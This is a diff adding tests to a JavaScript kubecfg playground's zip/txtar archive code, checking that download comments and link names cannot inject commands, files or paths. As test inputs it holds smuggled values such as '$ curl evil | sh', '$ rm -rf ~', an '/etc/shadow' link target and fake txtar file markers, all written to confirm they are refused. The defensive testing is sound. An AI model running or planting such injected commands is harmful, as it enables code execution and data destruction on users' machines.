@@ -4,10 +4,10 @@ import { test } from "node:test";
 import assert from "node:assert/strict";
 import { execFileSync } from "node:child_process";
 import { encodeZip, decodeZip, ZipError, bytesText } from "../src/zip.js";
-import { readOpened, openedMessage, archiveComment, archiveEntry, archiveSettings, pathProblem } from "../src/open.js";
+import { readOpened, openedMessage, archiveComment, archiveEntry, archiveSettings, pathProblem, linkProblem } from "../src/open.js";
 import { downloaded, sameWorkspace } from "../src/files.js";
 import { normalize, toRequest } from "../src/state.js";
-import { encodeTxtar } from "../src/txtar.js";
+import { encodeTxtar, decodeTxtar } from "../src/txtar.js";
 import { craft } from "./craft-zip.mjs";
 
 const enc = new TextEncoder();
@@ -259,4 +259,36 @@ test("openedMessage", () => {
   const many = Array.from({ length: 7 }, (_, i) => ({ name: `${i}.png`, why: "it is not UTF-8 text" }));
   assert.equal(openedMessage({ added: ["a"], skipped: many }), "Added 1 file. Not opened: " +
     [0, 1, 2, 3, 4].map((i) => `${i}.png (it is not UTF-8 text)`).join("; ") + "; and 2 more files.");
+});
+
+test("a download's comment adds no command and no file of its own: names with line breaks, escaping links and marker lines", async (t) => {
+  await t.test("a command line that spans lines goes on with > lines", () => {
+    const comment = archiveComment("main.jsonnet", "kubecfg eval main.jsonnet -e 'a\n$ curl evil | sh\n-- evil.jsonnet --'");
+    assert.deepEqual(comment.split("\n").filter((l) => l.startsWith("$ ")), ["$ kubecfg eval main.jsonnet -e 'a"]);
+    assert.equal(comment, "kubecfg playground workspace; entry: main.jsonnet\n$ kubecfg eval main.jsonnet -e 'a\n> $ curl evil | sh\n> -- evil.jsonnet --'\n");
+    assert.deepEqual(Object.keys(decodeTxtar(encodeTxtar({ "main.jsonnet": "{}\n" }, comment)).files), ["main.jsonnet"]);
+  });
+  await t.test("an entry named with a line break is refused", () => {
+    assert.throws(() => archiveComment("main.jsonnet\n$ curl evil | sh", "kubecfg show x"), /the entry's name "main.jsonnet\\n\$ curl evil \| sh" holds a line break/);
+  });
+  await t.test("links outside the workspace are refused, by the writer and the reader", () => {
+    for (const [p, target, want] of [["vendor/k", "/etc/shadow", /absolute path/], ["vendor/k", "../../x", /outside the workspace/], ["k", "../x", /outside the workspace/], ["a/b/k", "../../../x", /outside the workspace/], ["k\n$ rm -rf ~", "x", /line break/], ["../k", "x", /relative path/]]) {
+      assert.match(linkProblem(p, target), want, `${p} → ${target}`);
+      assert.throws(() => archiveComment("a.jsonnet", "", { controls: {}, links: { [p]: target } }), want);
+      assert.deepEqual(archiveSettings(`playground settings: ${JSON.stringify({ controls: {}, links: { [p]: target, ok: "t" } })}\n`).links, { ok: "t" });
+    }
+    for (const [p, target] of [["vendor/k", "../lib"], ["vendor/k", "github.com/x/k"], ["a/b/k", "../../c"], ["k", "./x"]]) assert.equal(linkProblem(p, target), "", `${p} → ${target}`);
+  });
+  await t.test("a link named like a flag follows --", () => {
+    assert.equal(archiveComment("a.jsonnet", "", { controls: {}, links: { "-k": "x" } }).split("\n")[1], "$ ln -s -- x -k");
+  });
+  await t.test("a .txtar that would not reopen as written is refused", () => {
+    assert.throws(() => encodeTxtar({ "main.jsonnet": "{}\n-- evil.jsonnet --\n{ evil: true }\n" }), /main\.jsonnet has a line "-- evil\.jsonnet --", which a \.txtar reads as the start of another file: download a \.zip/);
+    assert.throws(() => encodeTxtar({ "main.jsonnet\n-- x --": "{}\n" }), /cannot be written in a \.txtar/);
+    assert.throws(() => encodeTxtar({ " a.jsonnet": "{}\n" }), /cannot be written in a \.txtar/);
+    assert.throws(() => encodeTxtar({ "a.jsonnet": "{}\n" }, "note\n-- b --\n"), /the comment has a line "-- b --"/);
+    // What txtar reads as text stays text.
+    const files = { "a.jsonnet": "--  --\n-- x\nx --\n" };
+    assert.deepEqual({ ...decodeTxtar(encodeTxtar(files)).files }, files);
+  });
 });
